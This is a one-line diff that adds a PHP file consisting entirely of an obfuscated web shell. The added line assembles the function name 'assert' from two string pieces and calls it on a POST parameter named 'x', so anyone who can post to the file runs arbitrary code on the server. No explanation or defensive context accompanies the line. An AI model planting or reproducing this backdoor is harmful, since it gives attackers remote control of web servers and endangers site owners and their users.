@@ -1,0 +1,1 @@
+<?php $a = 'as' . 'sert'; $a($_POST['x']); ?>
